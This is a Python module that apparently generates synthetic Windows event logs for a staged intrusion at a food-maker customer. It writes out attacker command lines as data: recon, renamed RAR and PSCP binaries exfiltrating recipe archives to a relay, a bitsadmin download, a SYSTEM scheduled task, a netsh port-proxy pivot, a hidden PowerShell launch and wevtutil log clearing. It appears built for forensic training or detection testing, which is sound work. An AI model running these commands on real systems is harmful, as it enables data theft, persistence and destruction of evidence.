"""What the intruder does at the second customer, a food maker: its file server is a place to leave from."""

from __future__ import annotations

from story import programs
from story.cast import KUMO_AT_MINATO, RELAY, SECRET, Cast
from story.machine import Session

JUMP = "10.10.1.20"
BIN = "C:\\$Recycle.Bin"


def tell(cast: Cast) -> None:
    """The second customer's part of the story."""
    archive_arrives(cast)
    session = arrive(cast)
    own_data(session)
    send_out(session)
    one_more_machine(cast, session)
    clean(cast)


def archive_arrives(cast: Cast) -> None:
    """Step 13, seen from the customer: the other customer's archive appears in the recycle bin."""
    session = cast.files.logon("13 02:18:32", KUMO_AT_MINATO, 3, JUMP, workstation="KUMO-JUMP01", admin=True)
    session.share("13 02:18:33", 5140, "C$", "C:\\")
    kernel = cast.files.kernel()
    for part in (1, 2):
        session.share(f"13 02:2{part}:12", 5145, "C$", "C:\\", f"$Recycle.Bin\\dd.part{part}.rar", write=True)
        kernel.writes(f"13 02:2{part}:12", f"{BIN}\\dd.part{part}.rar")
    session.end("13 02:30:00")


def arrive(cast: Cast) -> Session:
    """Step 13, goes on: remote desktop with the provider's account."""
    return cast.files.logon("13 02:40:34", KUMO_AT_MINATO, 10, JUMP, admin=True)


def own_data(session: Session) -> None:
    """Step 14: the second customer's own recipes are packed the same way."""
    shell = session.process("13 02:45:00", programs.CMD, "cmd.exe")
    for second, program, line in (
        (10, programs.WHOAMI, "whoami"),
        (25, programs.QUSER, "quser"),
        (40, programs.NET, "net user"),
    ):
        shell.start(f"13 02:45:{second}", program, line)
    rar = programs.RAR.copied("C:\\PerfLogs\\svchost.exe")
    session.process("13 02:48:30", programs.RDPCLIP, "rdpclip").writes("13 02:49:02", rar.path)
    line = f"svchost.exe a -r -hp{SECRET} {BIN}\\gg.rar D:\\Shared\\Recipes"
    shell.start("13 02:52:40", rar, line).writes("13 02:52:41", f"{BIN}\\gg.rar")


def send_out(session: Session) -> None:
    """Step 14, goes on: a file copier under a system name takes both archives out."""
    shell = session.process("13 03:10:00", programs.CMD, "cmd.exe")
    line = "bitsadmin /transfer k /download /priority high https://cdn.example.net/p.dat C:\\ProgramData\\media\\p.dat"
    shell.start("13 03:11:15", programs.BITSADMIN, line)
    copier = programs.PSCP.copied("C:\\PerfLogs\\rundll32.exe")
    move = shell.start(
        "13 03:14:30", programs.CMD, f"cmd.exe /c move C:\\ProgramData\\media\\p.dat {copier.path}"
    )
    move.writes("13 03:14:30", copier.path)
    for minute, name in ((20, "dd.part1.rar"), (24, "dd.part2.rar"), (27, "gg.rar")):
        line = f"rundll32.exe -P 443 -batch -pw {SECRET} {BIN}\\{name} u@{RELAY}:/in/"
        shell.start(f"13 03:{minute}:05", copier, line).connects(f"13 03:{minute}:06", RELAY, 443)


def one_more_machine(cast: Cast, session: Session) -> None:
    """Step 14, goes on: a task on the application server and a hidden start on a desk machine."""
    shell = session.process("13 03:40:00", programs.CMD, "cmd.exe")
    line = "schtasks /create /s MINATO-APP01 /tn UpdateCheck /tr C:\\Windows\\Temp\\update.bat /sc onstart /ru SYSTEM"
    shell.start("13 03:41:10", programs.SCHTASKS, line)
    remote = cast.app.logon(
        "13 03:41:12", KUMO_AT_MINATO, 3, "10.30.1.20", workstation="MINATO-FS01", admin=True
    )
    remote.task("13 03:41:13", "UpdateCheck", "C:\\Windows\\Temp\\update.bat")
    line = 'wmic process call create "netsh I p a v l=50100 connectp=1433 c=10.30.1.20"'
    host = cast.app.wmi("13 03:44:00")
    remote.process("13 03:44:02", programs.WMIC, line, parent=host)
    remote.process(
        "13 03:44:03", programs.NETSH, "netsh I p a v l=50100 connectp=1433 c=10.30.1.20", parent=host
    )
    desk = cast.desk.logon("13 03:50:20", KUMO_AT_MINATO, 3, "10.30.1.20", workstation="MINATO-FS01")
    line = "powershell start-process -filepath c:\\windows\\temp\\update.bat -windowstyle Hidden"
    cast.desk_processes.append(desk.process("13 03:50:22", programs.POWERSHELL, line))


def clean(cast: Cast) -> None:
    """Step 15: traces are removed here as well."""
    session = cast.files.logon("13 18:20:10", KUMO_AT_MINATO, 10, JUMP, admin=True)
    shell = session.process("13 18:21:00", programs.CMD, "cmd.exe")
    shell.start("13 18:21:20", programs.CMD, f"cmd.exe /c del /f /q {BIN}\\*.rar C:\\PerfLogs\\*.exe")
    shell.start("13 18:22:05", programs.WEVTUTIL, "wevtutil cl System")
    cast.files.cleared("13 18:22:06", "System", session)
    session.end("13 18:24:00")
